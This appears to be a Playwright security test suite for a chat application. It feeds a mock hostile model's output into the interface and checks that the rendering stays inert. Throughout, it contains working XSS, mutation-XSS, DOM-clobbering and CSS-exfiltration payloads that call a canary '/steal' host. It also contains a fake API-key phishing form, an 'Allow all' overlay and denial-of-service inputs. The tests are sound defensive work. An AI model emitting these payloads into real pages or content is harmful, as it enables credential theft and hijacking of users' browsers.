/** Markup, diagrams, charts, pictures, forms and styles of a hostile model, in a real window (B03, B04, B07, B12, B13, B15, B17). */
import type { Page } from '@playwright/test';
import type { RunningApp } from '../harness/running-app.ts';
import { expect, test } from '../harness/test.ts';
import { composer, lastAnswer, newChat, send } from '../steps/chat.ts';
import { haveModel } from '../steps/prepare.ts';
import { sidebar } from '../steps/servers.ts';
import { watchForEscapes } from '../support/canary.ts';
import { watchEveryChange } from '../support/every-change.ts';
import { startModelEndpoint } from '../support/model-endpoint.ts';

test.describe.configure({ mode: 'parallel' });

/** Has the model say this, looks at it while it comes, when it is there and after a reload; nothing of it may act. */
async function said(app: RunningApp, textFor: (canary: string) => string, look: (page: Page) => Promise<void>): Promise<void> {
  const { page } = app;
  await using canary = await watchForEscapes(page);
  const text = `${textFor(canary.url)}\n\nthe end of it`;
  await using model = await startModelEndpoint(() => ({ kind: 'stream', pieces: text.match(/[\s\S]{1,400}/g) ?? [], everyMs: 2 }));
  await haveModel(app, model);
  await newChat(page);
  const change = await watchEveryChange(page);
  await send(page, 'Go');
  await expect(lastAnswer(page)).toContainText('the end of it', { timeout: 60_000 });
  await look(page);
  await change.expectHarmless('the answer');
  await canary.expectUntouched('the answer');
  await page.reload();
  await expect(lastAnswer(page)).toContainText('the end of it', { timeout: 60_000 });
  await look(page);
  await canary.expectUntouched('the answer after a reload');
}

/** How the frame of the app looks: what content may never change. */
const frameStyle = (page: Page) =>
  sidebar(page).evaluate((element) => {
    const of = (each: Element) => {
      const { color, backgroundColor, backgroundImage, fontFamily, display, visibility, opacity } = getComputedStyle(each);
      return { color, backgroundColor, backgroundImage, fontFamily, display, visibility, opacity };
    };
    return [of(document.body), of(element), document.styleSheets.length, document.querySelectorAll('style').length];
  });

test('B03: hostile diagrams are pictures without links, scripts and styles, or their text, and change nothing outside (T:B03, T:B17)', { tag: '@full' }, async ({ app }) => {
  test.setTimeout(120_000);
  const before = await frameStyle(app.page);
  await said(
    app,
    (canary) =>
      [
        'graph TD\n  A[Start] --> B[Done]',
        `%%{init:{"fontFamily":"x;a{b} :not(&){background:url(${canary}/steal?q=f);display:none}"}}%%\ngraph TD\n  A --> B`,
        `%%{init:{"securityLevel":"loose","themeCSS":"*{background:url(${canary}/steal?q=c)}"}}%%\ngraph TD\n  A["<img src=${canary}/steal?q=i onerror=window.__pwned=1>"] --> B["<script>window.__pwned=1</script>"]`,
        '---\nconfig:\n  securityLevel: loose\n---\ngraph TD\n  A --> B\n  click A "javascript:window.__pwned=1"\n  click B call alert()',
        `graph TD\n  A --> B\n  style A fill:url(${canary}/steal?q=s)\n  classDef evil background:url(${canary}/steal?q=d)\n  class B evil`,
        'sequenceDiagram\n  participant A as <iframe src="javascript:window.__pwned=1">\n  A->>A: <svg onload=window.__pwned=1>',
        `architecture-beta\n  service db(<img src=x onerror=window.__pwned=1>)[Database]`,
        'graph TD\n  A["$$\\\\href{javascript:window.__pwned=1}{x}$$"]',
      ].map((source) => `\`\`\`mermaid\n${source}\n\`\`\``).join('\n\n'),
    async (page) => {
      // The harmless one is drawn, as a picture that has no document of its own.
      const drawn = lastAnswer(page).locator('img[src^="data:image/svg+xml"], img[src^="blob:"]');
      await expect(drawn.first()).toBeVisible({ timeout: 30_000 });
      await expect(lastAnswer(page).getByText('Drawing the diagram…')).toHaveCount(0, { timeout: 30_000 });
      await expect(lastAnswer(page).locator('svg a, foreignObject')).toHaveCount(0);
      expect(await frameStyle(page)).toEqual(before);
    },
  );
});

test('B04: a chart, a map, an app or a formula as a block is shown as its text and never evaluated (T:B04)', { tag: '@full' }, async ({ app }) => {
  const bodies = ['option = { tooltip: { formatter: function () { window.__pwned = 1 } } }; window.__pwned = 1', '{"toJSON":"(()=>{window.__pwned=1})()"}', '<script>window.__pwned=1</script>'];
  await said(
    app,
    () => ['echarts', 'chart', 'vega-lite', 'plotly', 'html preview', 'jsx', 'svg', 'artifact', 'js run', 'application/vnd.ant.react', 'dot', 'latex'].map((language, at) => `\`\`\`${language}\n${bodies[at % bodies.length] ?? ''}\n\`\`\``).join('\n\n'),
    async (page) => {
      await expect(lastAnswer(page).locator('pre')).toHaveCount(12);
      await expect(lastAnswer(page).locator('canvas, iframe, img')).toHaveCount(0);
    },
  );
});

test('B07: a picture, a style or a hint from elsewhere is asked for by nobody, in any way of writing one (T:B07, T:B17)', { tag: '@full' }, async ({ app }) => {
  await said(
    app,
    (canary) => {
      const at = (name: string) => `${canary}/steal?q=MK-${name}`;
      return [
        `![inline](${at('a')}) ![titled](${at('b')} "t") ![ref][r] ![r] [![in a link](${at('c')})](${at('d')})`,
        `[r]: ${at('e')}`,
        `<img src="${at('f')}" srcset="${at('g')} 2x" loading=eager> <picture><source srcset="${at('h')}"></picture> <svg><image href="${at('i')}"/><use href="${at('j')}#x"/></svg> <input type=image src="${at('k')}"> <body background="${at('l')}">`,
        `<link rel=prefetch href="${at('m')}"> <link rel=dns-prefetch href="${at('n')}"> <link rel=stylesheet href="${at('o')}"> <style>@import url(${at('p')});*{background:url(${at('q')})}</style>`,
        `<video poster="${at('r')}" autoplay><source src="${at('s')}"></video> <audio src="${at('t')}" autoplay></audio> <iframe src="${at('u')}"></iframe> <object data="${at('v')}"></object>`,
        `<div style="background:url(${at('w')})"></div> <meta http-equiv=refresh content="0;url=${at('x')}">`,
        `A note[^1] and ${at('y')} and <${at('z')}>.\n\n[^1]: ![in a note](${at('1')})`,
        `| ![in a table](${at('2')}) |\n|---|\n| ![and here](${at('3')}) |`,
        `$$\\includegraphics{${at('4')}} \\htmlStyle{background:url(${at('5')})}{x}$$`,
        `![x](data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"><image href="${at('6')}"/></svg>)`,
      ].join('\n\n');
    },
    async (page) => {
      // Named by its site instead.
      await expect(lastAnswer(page)).toContainText('127.0.0.1');
      await expect(lastAnswer(page).locator('img')).toHaveCount(0);
    },
  );
});

test('B12, B17: a form, a cover over the page or a style is text, takes nothing in and covers nothing (T:B12, T:B17)', { tag: '@full' }, async ({ app }) => {
  const before = await frameStyle(app.page);
  await said(
    app,
    (canary) =>
      [
        `<form action="${canary}/steal"><input type="password" name="p" placeholder="Your API key"><select><option>a</select><textarea></textarea><button>Sign in</button></form>`,
        '<div style="position:fixed;inset:0;z-index:99999;background:white"><h1>Portolan asks: Allow all?</h1><button>Allow</button></div>',
        '<dialog open>Allow?</dialog><details open>x</details><label>x<input></label>',
        `<style>#root{display:none} input[value^="a"]{background:url(${canary}/steal?v=a)} :has(input[value*="sk-"]){background:url(${canary}/steal?v=k)} *{visibility:hidden}</style>`,
        `<p class="fixed inset-0 z-50 bg-app">classes of the app</p>`,
        '<p id="main" data-approval="x">ids of the app</p>',
      ].join('\n\n'),
    async (page) => {
      const answer = lastAnswer(page);
      await expect(answer.locator('input, select, textarea, form, dialog, style, [style*="fixed"], [data-approval], .fixed')).toHaveCount(0);
      await expect(answer.getByRole('button', { name: /^(?:Sign in|Allow)$/ })).toHaveCount(0);
      expect(await frameStyle(page)).toEqual(before);
      // What stands in the middle of the app's own parts is theirs.
      for (const own of [sidebar(page), composer(page)]) {
        const isOnTop = await own.evaluate((element) => {
          const { left, top, width, height } = element.getBoundingClientRect();
          const hit = document.elementFromPoint(left + width / 2, top + height / 2);
          return hit !== null && (element.contains(hit) || hit.contains(element));
        });
        expect(isOnTop).toBe(true);
      }
    },
  );
});

test('B13: names that hide what the page itself uses, and markup that changes when it is read twice, stay text (T:B13)', { tag: '@full' }, async ({ app }) => {
  app.complaints.expect(/requires 'TrustedHTML'/);
  await said(
    app,
    () =>
      [
        '<img name="getElementById"><form id="body"><input name="attributes"><input name="parentNode"></form><a id="portolan"></a><a id="portolan" name="connect" href="javascript:window.__pwned=1"></a>',
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__pwned=1&gt;">',
        '<svg></p><style><a id="</style><img src=1 onerror=window.__pwned=1>">',
        '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__pwned=1>',
        '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
        '<select><template><style><img src=x onerror=window.__pwned=1></style></template></select>',
        '<xmp><p title="</xmp><img src=x onerror=window.__pwned=1>"></xmp><plaintext>',
      ].join('\n\n'),
    async (page) => {
      const own = await page.evaluate(() => ({
        lookup: typeof document.getElementById,
        body: document.body.tagName,
        // What has no policy of ours can put no markup into the page, wherever it stands.
        refused: (() => {
          try {
            document.createElement('div').innerHTML = '<img src=x onerror="window.__pwned=1">';
            return false;
          } catch {
            return true;
          }
        })(),
      }));
      expect(own).toEqual({ lookup: 'function', body: 'BODY', refused: true });
    },
  );
});

test('B15: text without end, rows, depth, marks and formulas leave a window in which one can write, stop and go elsewhere (T:B15)', { tag: '@full' }, async ({ app }) => {
  test.setTimeout(180_000);
  const { page } = app;
  const texts = [
    'x'.repeat(3_000_000),
    `| a | b |\n|---|---|\n${Array.from({ length: 50_000 }, (_, at) => `| ${at} | **b** |`).join('\n')}`,
    `${'> '.repeat(20_000)}deep`,
    '*'.repeat(1_000_000),
    `${'- '.repeat(5_000)}x`,
    `Z${'\u0301\u0323\u0336'.repeat(20_000)}`,
    `\`\`\`js\n${'const a = {b: [1, "two", /3/]};\n'.repeat(15_000)}\n\`\`\``,
    '$$\\rule{9999em}{9999em} \\def\\a{\\a\\a}\\a$$',
    '['.repeat(100_000),
    '<div>'.repeat(50_000),
  ];
  await using model = await startModelEndpoint((_request, index) => ({ kind: 'stream', pieces: [...((texts[index] ?? '').match(/[\s\S]{1,200000}/g) ?? []), `\n\nend ${index}.`], everyMs: 5 }));
  await haveModel(app, model);
  for (const index of texts.keys()) {
    await newChat(page);
    await composer(page).fill(`Go ${index}`);
    await composer(page).press('Enter');
    await expect(composer(page)).toHaveValue('');
    // Not waited for to its end: while it comes, and is drawn, the person goes on.
    await composer(page).fill('meanwhile');
    await expect(composer(page)).toHaveValue('meanwhile');
    await expect(page.getByRole('button', { name: 'Stop', exact: true })).toBeHidden({ timeout: 60_000 });
    await expect(lastAnswer(page)).toBeVisible();
    await composer(page).fill('after');
    await expect(composer(page)).toHaveValue('after');
  }
  await sidebar(page).getByRole('link', { name: 'Settings' }).click();
  await expect(page.getByRole('heading', { name: 'Settings' })).toBeVisible();
});
